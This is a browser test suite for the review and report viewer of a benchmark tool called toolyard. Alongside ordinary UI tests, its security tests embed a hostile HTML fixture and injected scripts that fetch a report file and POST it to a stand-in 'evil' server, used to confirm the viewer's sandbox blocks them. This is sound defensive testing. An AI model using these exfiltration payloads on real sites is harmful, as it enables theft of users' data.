"""The review page and `toolyard view` in a real browser: keys, reload, kill, two annotators, injection."""

import json
import os
import re
import signal
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Response, expect

from cases import cases
from plain_service import plain_service
from report_toy import toy_report
from served_pages import running
from toolyard.benchmarks import load_benchmark
from toolyard.core.types import Options
from toolyard.report.compare.human_agreement import read_labels
from toolyard.report.page.run_page import render_page
from toolyard.report.report_files import write_report
from toolyard.review.web.server import PageServer
from toolyard.review.web.view_pages import report_server
from toolyard.run.api import evaluate
from toolyard.text.printable import printable_text
from toolyard_command import toolyard

INJECTIONS = cases(__file__, "INJECTIONS")


class Served:
    """A running `toolyard review`, its address, and what a page of it asked for."""

    def __init__(self, process: subprocess.Popen[str], address: str) -> None:
        self.process, self.address = process, address
        self.requests: list[str] = []
        self.complaints: list[str] = []

    def page(self, browser: Browser, **options: object) -> Page:
        context: BrowserContext = browser.new_context(**options)  # type: ignore[arg-type]
        page = context.new_page()
        page.on("request", lambda request: self.requests.append(request.url))
        page.on("pageerror", lambda error: self.complaints.append(str(error)))
        page.on("dialog", lambda dialog: self.complaints.append(f"dialog: {dialog.message}"))
        page.goto(self.address)
        expect(page.locator("#item h2")).to_be_visible()
        return page


@contextmanager
def review(*words: str | Path) -> Iterator[Served]:
    command = [sys.executable, "-m", "toolyard", "review", *map(str, words)]
    environment = {**os.environ, "PYTHONUNBUFFERED": "1"}
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True, env=environment) as process:
        assert process.stdout is not None
        address = next((line.split()[1] for line in process.stdout if line.startswith("open ")), "")
        assert address, "the command printed no address"
        served = Served(process, address)
        try:
            yield served
        finally:
            process.kill()
    assert served.complaints == []
    assert {re.match(r"\w+://[^:/]+", url).group() for url in served.requests} == {"http://127.0.0.1"}  # type: ignore[union-attr]


def small_set(folder: Path, rows: int = 5) -> Path:
    """The first rows of the NesTools starter set as a data set of their own."""
    starter = load_benchmark("nestools").data.starter
    folder.mkdir()
    for name in ("test_data.jsonl", "test_api_ids.jsonl"):
        lines = (starter / name).read_text(encoding="utf-8").splitlines(keepends=True)
        (folder / name).write_text("".join(lines[:rows]), encoding="utf-8")
    return folder


def lines_of(folder: Path, name: str, part: str = "decisions") -> list[tuple[str, str]]:
    text = (folder / part / f"{name}.jsonl").read_text(encoding="utf-8")
    return [(line["item"], line["verdict"]) for line in map(json.loads, text.splitlines())]


def test_decisions_by_key_and_click_are_on_disk_before_the_next(browser: Browser, tmp_path: Path) -> None:
    out = tmp_path / "review"
    with review(small_set(tmp_path / "data"), "--annotator", "ada", "--out", out) as served:
        page = served.page(browser)
        title, count = page.locator("#item h2"), page.locator("#count")
        expect(title).to_have_text("1")
        page.keyboard.press("a")
        expect(title).to_have_text("2")
        assert lines_of(out, "ada") == [("1", "accept")]
        page.get_by_role("button", name="Reject").click()
        expect(title).to_have_text("3")
        assert lines_of(out, "ada") == [("1", "accept"), ("2", "reject")]
        expect(count).to_have_text("2 of 5")
        page.keyboard.press("k")
        expect(title).to_have_text("2")
        expect(page.locator("#reject")).to_have_attribute("aria-pressed", "true")
        page.keyboard.press("u")
        expect(count).to_have_text("1 of 5")
        page.keyboard.press("j")
        expect(title).to_have_text("3")
        page.keyboard.press("?")
        expect(page.locator("#help")).to_be_visible()
        page.keyboard.press("Escape")
        page.select_option("#filter", "accept")
        expect(page.locator(".line")).to_have_count(1)


def test_letters_in_the_note_are_text_and_not_decisions(browser: Browser, tmp_path: Path) -> None:
    out = tmp_path / "review"
    with review(small_set(tmp_path / "data"), "--annotator", "ada", "--out", out) as served:
        page = served.page(browser)
        page.keyboard.press("n")
        page.keyboard.type("area")
        expect(page.locator("#note")).to_have_value("area")
        page.keyboard.press("Escape")
        page.keyboard.press("r")
        expect(page.locator("#item h2")).to_have_text("2")
        line = json.loads((out / "decisions" / "ada.jsonl").read_text())
        assert (line["verdict"], line["note"]) == ("reject", "area")


def test_decisions_survive_reload_and_kill(browser: Browser, tmp_path: Path) -> None:
    words = (small_set(tmp_path / "data"), "--annotator", "ada", "--out", tmp_path / "review")
    with review(*words) as served:
        page = served.page(browser)
        page.keyboard.press("a")
        expect(page.locator("#item h2")).to_have_text("2")
        page.reload()
        expect(page.locator("#count")).to_have_text("1 of 5")
        expect(page.locator("#item h2")).to_have_text("2")
        served.process.send_signal(signal.SIGKILL)
        served.process.wait()
        page.keyboard.press("r")
        expect(page.locator("#alarm")).to_contain_text("Not saved")
        expect(page.locator("#item h2")).to_have_text("2")
    with review(*words) as served:
        page = served.page(browser)
        expect(page.locator("#count")).to_have_text("1 of 5")
        expect(page.locator("#item h2")).to_have_text("2")


def test_an_edit_is_checked_by_the_benchmark_and_shown(browser: Browser, tmp_path: Path) -> None:
    out = tmp_path / "review"
    with review(small_set(tmp_path / "data"), "--annotator", "ada", "--out", out) as served:
        page = served.page(browser)
        page.keyboard.press("e")
        field = page.locator("#row")
        row = json.loads(field.input_value())
        field.fill(json.dumps({**row, "call": []}))
        page.keyboard.press("Control+Enter")
        expect(page.locator("#editor-error")).to_contain_text("at least one call")
        page.keyboard.press("Escape")
        page.keyboard.press("e")
        expect(field).to_have_value(json.dumps({**row, "call": []}))
        field.fill(json.dumps({**row, "task": "Do it again."}))
        page.keyboard.press("Control+Enter")
        expect(page.locator("#item h2")).to_have_text("2")
        page.keyboard.press("k")
        expect(page.locator(".change .after").first).to_have_text('"Do it again."')
        expect(page.locator(".text").first).to_have_text("Do it again.")
    assert lines_of(out, "ada") == [("1", "edit")]


def test_two_annotators_then_the_adjudicator_then_a_set_that_loads(browser: Browser, tmp_path: Path) -> None:
    data, out = small_set(tmp_path / "data", rows=3), tmp_path / "review"
    for name, keys in (("ada", "aaa"), ("ben", "ara")):
        with review(data, "--annotator", name, "--out", out) as served:
            page = served.page(browser)
            for number, key in enumerate(keys, 1):
                expect(page.locator("#item h2")).to_have_text(str(number))
                page.keyboard.press(key)
                expect(page.locator("#count")).to_have_text(f"{number} of 3")
            expect(page.locator(".other")).to_have_count(0)
    with review(data, "--annotator", "grace", "--adjudicate", "--out", out) as served:
        page = served.page(browser)
        expect(page.locator("#item h2")).to_have_text("2")
        expect(page.locator(".other .verdict")).to_have_text(["accept", "reject"])
        page.get_by_role("button", name="Take this").nth(1).click()
        expect(page.locator("#count")).to_have_text("1 of 1")
        page.keyboard.press("f")
        expect(page.locator("#figures-body")).to_contain_text("raw agreement on 3 rows")
        expect(page.locator("#figures-body")).to_contain_text("66.7 %")
    assert lines_of(out, "grace", "adjudication") == [("2", "reject")]
    exported = toolyard("review", data, "--out", out, "--export", tmp_path / "reviewed")
    assert exported.returncode == 0, exported.stderr
    samples = load_benchmark("nestools").data.load(tmp_path / "reviewed", Options())
    assert [sample.id for sample in samples] == ["1", "3"]
    assert json.loads((tmp_path / "reviewed" / "review.json").read_text())["adjudicator"] == "grace"


def test_nested_parameters_stand_beside_the_values_they_come_from(browser: Browser, tmp_path: Path) -> None:
    with review(small_set(tmp_path / "data"), "--annotator", "ada", "--out", tmp_path / "r") as served:
        page = served.page(browser)
        argument = page.locator(".argument", has_text="slot_code =")
        expect(argument.locator(".source")).to_contain_text("slot_code of request_hall_slot (call 1)")
        label = argument.locator(".ref").first
        label.hover()
        expect(page.locator(".return .ref.lit")).to_have_text(label.inner_text())


def test_injected_markup_stays_text(browser: Browser, tmp_path: Path) -> None:
    data = small_set(tmp_path / "data", rows=len(INJECTIONS))
    rows = [json.loads(line) for line in (data / "test_data.jsonl").read_text(encoding="utf-8").splitlines()]
    for row, text in zip(rows, INJECTIONS, strict=True):
        row["task"] = f"{text} task {row['test_id']}"
        row["field"] = text
        row["api"][0]["api_description"] = text
        row["call"][0]["parameters"][text] = text
    (data / "test_data.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    with review(data, "--annotator", "ada", "--out", tmp_path / "review") as served:
        page = served.page(browser)
        for row in rows:
            expect(page.locator("#item h2")).to_have_text(str(row["test_id"]))
            shown = page.locator(".text").first.evaluate("node => node.textContent")
            assert shown == printable_text(row["task"])
            page.keyboard.press("e")
            expect(page.locator("#row")).to_have_value(re.compile("task"))
            page.keyboard.press("Escape")
            expect(page.locator("#editor")).to_be_hidden()
            page.keyboard.press("r")
            if row is not rows[-1]:
                expect(page.locator("#item h2")).to_have_text(str(row["test_id"] + 1))
        expect(page.locator("iframe, #item img, #item script, #item style, svg, base")).to_have_count(0)
        assert page.title() == "Review: ada"


@pytest.fixture(scope="module")
def runs(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    folder = tmp_path_factory.mktemp("runs")
    for model in ("scripted/oracle", "scripted/empty"):
        name = model.replace("/", "-")
        command = ["run", "nestools", "-m", model, "--limit", "3", "--runs", str(folder), "--name", name]
        assert toolyard(*command).returncode == 0
    return folder / "scripted-oracle", folder / "scripted-empty"


def test_pairs_are_blind_votes_name_runs(browser: Browser, tmp_path: Path, runs: tuple[Path, Path]) -> None:
    words = (*runs, "--dimensions", "intent,quality", "--annotator", "ada", "--out", tmp_path / "review")
    with review(*words) as served:
        page = served.page(browser)
        answers: list[Response] = []
        page.on("response", lambda answer: answers.append(answer))
        winners = []
        names = page.locator(".line").evaluate_all("lines => lines.map(line => line.dataset.id)")
        for number, name in enumerate(names, 1):
            expect(page.locator("#item h2")).to_have_text(name)
            left = page.locator("[data-side=left] pre").inner_text()
            winners.append("a" if left.strip() else "b")
            page.keyboard.press("1")
            expect(page.locator("[data-dimension=quality]")).to_have_class(re.compile("active"))
            page.locator("[data-dimension=quality] [data-side=tie]").click()
            expect(page.locator("#count")).to_have_text(f"{number} of 3")
        assert "scripted" not in page.content()
        assert answers
        assert not any("scripted" in answer.text() for answer in answers)
    lines = list(map(json.loads, (tmp_path / "review" / "decisions" / "ada.jsonl").read_text().splitlines()))
    assert [line["winner"] for line in lines if line["dimension"] == "intent"] == winners
    assert [line["winner"] for line in lines if line["dimension"] == "quality"] == ["tie"] * 3
    export = [*map(str, words[:4]), "--out", str(tmp_path / "review"), "--export", str(tmp_path / "labels")]
    assert toolyard("review", *export).returncode == 0
    labels = read_labels(tmp_path / "labels" / "labels.jsonl", "intent").labels
    assert list(labels["ada"].values()) == [1 if winner == "a" else -1 for winner in winners]


def test_it_works_on_a_phone(browser: Browser, tmp_path: Path) -> None:
    with review(small_set(tmp_path / "data"), "--annotator", "ada", "--out", tmp_path / "review") as served:
        page = served.page(browser, viewport={"width": 390, "height": 800}, has_touch=True, is_mobile=True)
        assert page.evaluate("() => document.documentElement.scrollWidth") <= 390
        expect(page.locator("#list")).not_to_be_in_viewport()
        page.locator("#menu").tap()
        page.locator(".line[data-id='3']").tap()
        expect(page.locator("#item h2")).to_have_text("3")
        page.get_by_role("button", name="Accept").tap()
        expect(page.locator("#item h2")).to_have_text("4")


def test_perspectives_and_reasons_of_a_protocol(browser: Browser, tmp_path: Path) -> None:
    out, data = tmp_path / "review", small_set(tmp_path / "data")
    with review(data, "--protocol", "nestools", "--annotator", "ada", "--out", out) as served:
        page = served.page(browser)
        expect(page.locator(".perspective .label")).to_have_text(["chain", "query"])
        page.keyboard.press("r")
        expect(page.locator("#alarm")).to_contain_text("say what is wrong first: chain, query")
        page.get_by_role("button", name="wrong order").click()
        page.get_by_role("button", name="unclear").click()
        page.keyboard.press("r")
        expect(page.locator("#item h2")).to_have_text("2")
        expect(page.locator(".reason[aria-pressed=true]")).to_have_count(0)
        page.keyboard.press("a")
        expect(page.locator("#item h2")).to_have_text("3")
        page.keyboard.press("f")
        expect(page.locator("#figures-body")).to_contain_text("wrong order 1")
        page.keyboard.press("Escape")
        page.goto(f"{served.address}#1")
        page.reload()
        expect(page.locator(".reason[aria-pressed=true]")).to_have_text(["wrong order", "unclear"])
        if shots := os.environ.get("TOOLYARD_SCREENSHOTS"):
            page.screenshot(path=f"{shots}/review_perspectives.png")
    first, second = map(json.loads, (out / "decisions" / "ada.jsonl").read_text().splitlines())
    assert first["flaws"] == {"chain": ["wrong order"], "query": ["unclear"]}
    assert second["verdict"] == "accept" and "flaws" not in second
    with review(data, "--protocol", "nestools", "--annotator", "bob", "--out", out) as served:
        page = served.page(browser)
        page.keyboard.press("a")
        expect(page.locator("#item h2")).to_have_text("2")
    with review(data, "--annotator", "eve", "--adjudicate", "--out", out) as served:
        page = served.page(browser)
        expect(page.locator(".other").first).to_contain_text("chain: wrong order")


MADE_FIRST = ("own_page", "compared")
# Everything by which a page could run something, read the other run, or tell somebody.
HOSTILE = """<!doctype html><html><head>
<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline' 'unsafe-eval' data:">
<link rel="stylesheet" href="{evil}/style"><link rel="prefetch" href="{evil}/prefetch">
<style>@import url({evil}/import); body {{ background: url({evil}/background) }}</style>
<title>innocent</title></head>
<body onload="document.title='owned'">
<p id="shown">a table of figures</p>
<img src="{evil}/image" onerror="document.title='owned'">
<iframe src="/runs/fine/report.json"></iframe><iframe srcdoc="<script>parent.document.title='owned'</script>"></iframe>
<object data="{evil}/object"></object><embed src="{evil}/embed"><video src="{evil}/video"></video>
<svg><image href="{evil}/svg"/><script>document.title='owned'</script></svg>
<form action="{evil}/form" method="post"><input name="a"><button id="send">send</button></form>
<a id="script" href="javascript:document.title='owned'">figures</a>
<script>
document.title = 'owned';
fetch('/runs/fine/report.json').then(r => r.text()).then(t => fetch('{evil}/stolen', {{method: 'POST', body: t}}));
navigator.sendBeacon('{evil}/beacon', 'x');
location = '{evil}/location';
</script>
<script src="{evil}/script"></script><script src="data:text/javascript,document.title='owned'"></script>
"""
REFRESH = '<meta http-equiv="refresh" content="0;url={evil}/refresh">'


@pytest.fixture
def evil() -> Iterator[tuple[str, list[Any]]]:
    """The address of a server that answers everybody, and what it was asked."""
    allowed = {"Access-Control-Allow-Origin": "*"}
    with plain_service(lambda path, body: (200, "text/plain", b""), **allowed) as service:
        yield service.address, service.seen


@pytest.fixture(scope="module")
def own_page(tmp_path_factory: pytest.TempPathFactory) -> str:
    return render_page(toy_report(tmp_path_factory.mktemp("page")))


@pytest.fixture(scope="module")
def compared(tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    viewed_runs = tmp_path_factory.mktemp("compared")
    folders = [
        evaluate("nestools", f"scripted/{name}", limit=4, runs=viewed_runs).folder
        for name in ("oracle", "empty")
    ]
    for folder in folders:
        write_report(folder)
    return folders


def add_run(viewed_runs: Path, name: str, page: str) -> None:
    (viewed_runs / name).mkdir(parents=True)
    manifest = {"identity": {"benchmark": "toy", "model": name}}
    (viewed_runs / name / "manifest.json").write_text(json.dumps(manifest))
    (viewed_runs / name / "report.json").write_text(json.dumps({"headline": "secret", "manifest": manifest}))
    (viewed_runs / name / "report.html").write_text(page, encoding="utf-8")


@pytest.fixture
def viewed_runs(tmp_path: Path, own_page: str) -> Path:
    add_run(tmp_path / "runs", "fine", own_page)
    return tmp_path / "runs"


@pytest.fixture
def server(viewed_runs: Path) -> Iterator[PageServer]:
    with report_server(viewed_runs) as found, running(found):
        yield found


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    context = browser.new_context(viewport={"width": 1200, "height": 900})
    yield context.new_page()
    context.close()


def test_our_page_works_from_the_index_without_a_complaint(server: PageServer, page: Page) -> None:
    complaints: list[str] = []
    page.on("console", lambda message: complaints.append(message.text))
    page.on("pageerror", lambda error: complaints.append(str(error)))
    page.goto(server.url)
    page.get_by_role("link", name="fine").click()
    page.wait_for_selector("body[data-ready]")
    page.locator("#list").evaluate("box => { box.scrollTop = 0 }")
    page.locator("#row-0").click()
    expect(page.locator("#detail h3")).to_have_text("s0")
    page.select_option('select[data-group="scenario"]', label="office (40)")
    expect(page.locator("#count")).to_have_text("40 of 120 samples")
    page.click("#theme")
    assert page.evaluate("document.documentElement.dataset.theme") == "dark"
    page.go_back()
    expect(page.locator("h1")).to_have_text("Runs")
    assert complaints == []


def test_runs_are_sorted_by_a_click_and_ticked_ones_compared(page: Page, compared: list[Path]) -> None:
    complaints: list[str] = []
    page.on("console", lambda message: complaints.append(message.text))
    page.on("pageerror", lambda error: complaints.append(str(error)))
    with report_server(compared[0].parent) as server, running(server):
        page.goto(server.url)
        link = page.locator("#compare")
        expect(link).to_have_text("Tick two runs or more to compare them")
        page.get_by_role("button", name="percent").click()
        expect(page.locator("tbody th").first).to_have_text("scripted/oracle")
        page.get_by_role("button", name="percent").click()
        expect(page.locator("tbody th").first).to_have_text("scripted/empty")
        for folder in compared:
            page.get_by_label(f"choose {folder.name}").check()
        expect(link).to_have_text("Compare 2 runs")
        link.click()
        expect(page.locator("h1")).to_have_text("2 models compared")
        page.wait_for_selector("body[data-ready]")
        assert page.goto(f"{server.url}compare?run={compared[0].name}&run=../etc").status == 404  # type: ignore[union-attr]
    assert [text for text in complaints if "404" not in text] == []


def test_runs_are_filtered_by_words_and_a_phone_shows_their_percent(page: Page, compared: list[Path]) -> None:
    with report_server(compared[0].parent) as server, running(server):
        page.set_viewport_size({"width": 400, "height": 860})
        page.goto(server.url)
        rows = page.locator("tbody tr:visible")
        assert rows.count() == 2
        for cell in page.locator("tbody td.strong").all():
            box = cell.bounding_box()
            assert box is not None and box["x"] + box["width"] <= 400
        assert page.evaluate("document.documentElement.scrollWidth") <= 400
        page.fill("#filter", "Oracle nestools")
        expect(rows).to_have_count(1)
        page.fill("#filter", "oracle mtu")
        expect(rows).to_have_count(0)
        expect(page.locator("#nothing")).to_be_visible()
        page.fill("#filter", "")
        expect(rows).to_have_count(2)


def test_our_own_page_has_an_origin_of_its_own(server: PageServer, page: Page) -> None:
    page.goto(f"{server.url}runs/fine/report.html")
    page.wait_for_selector("body[data-ready]")
    assert page.evaluate("self.origin") == "null"
    assert page.evaluate("fetch('/').then(() => 'read', error => error.name)") == "TypeError"
    with pytest.raises(Exception, match="SecurityError"):
        page.evaluate("localStorage.length")


@pytest.mark.parametrize("extra", ["", REFRESH])
def test_a_strangers_page_runs_nothing_and_reaches_nobody(
    server: PageServer, viewed_runs: Path, page: Page, evil: tuple[str, list[Any]], extra: str
) -> None:
    address, seen = evil
    add_run(viewed_runs, "hostile", (extra + HOSTILE).format(evil=address))
    page.goto(server.url)
    page.get_by_role("link", name="hostile").click()
    expect(page.locator("#shown")).to_be_visible()
    page.locator("#script").click()
    page.locator("#send").click()
    page.wait_for_timeout(500)
    assert page.title() == "innocent"
    assert page.url == f"{server.url}runs/hostile/report.html"
    assert seen == []


@pytest.mark.parametrize("where", ["<title>", "<footer>"])
def test_our_page_with_a_strangers_parts_runs_nothing_of_theirs(
    server: PageServer, viewed_runs: Path, own_page: str, page: Page, evil: tuple[str, list[Any]], where: str
) -> None:
    address, seen = evil
    read = "fetch('/runs/fine/report.json').then(r => r.text())"
    stolen = f"{read}.then(t => fetch('{address}/', {{method: 'POST', body: t}}))"
    bad = f'<img src=x onerror="{stolen}"><script>{stolen}</script>'
    assert where in own_page
    add_run(viewed_runs, "hostile", own_page.replace(where, bad + where))
    page.goto(f"{server.url}runs/hostile/report.html")
    page.wait_for_selector("body[data-ready]")
    page.wait_for_timeout(300)
    assert seen == []


def test_a_page_of_another_version_is_readable_and_says_what_it_lacks(
    server: PageServer, viewed_runs: Path, own_page: str, page: Page
) -> None:
    older = own_page.replace('"use strict";', '"use strict"; /* older */').replace(
        "<style>", "<style>/* older */"
    )
    # An older page carries its own hashes; here only the change matters.
    head, tail = older.split('<meta http-equiv="Content-Security-Policy"', 1)
    add_run(viewed_runs, "older", head + tail.split(">", 1)[1])
    page.goto(server.url)
    expect(page.get_by_role("row", name="older")).to_contain_text("write it again: toolyard report")
    page.get_by_role("link", name="older").click()
    expect(page.locator("noscript p")).to_be_visible()
    expect(page.locator("#figures table").first).to_be_visible()
    assert page.locator("main").evaluate("node => getComputedStyle(node).maxWidth") != "none"


def test_the_token_of_the_printed_address_opens_index_and_reports(viewed_runs: Path, page: Page) -> None:
    with report_server(viewed_runs, host="0.0.0.0") as server, running(server):
        assert page.goto(f"http://127.0.0.1:{server.port}/").status == 403  # type: ignore[union-attr]
        page.goto(f"http://127.0.0.1:{server.port}/?token={server.guard.token}")
        assert "token" not in page.url
        page.get_by_role("link", name="fine").click()
        page.wait_for_selector("body[data-ready]")
        page.reload()
        page.wait_for_selector("body[data-ready]")
        page.evaluate("location.href = '/'")
        expect(page.locator("h1")).to_have_text("Runs")
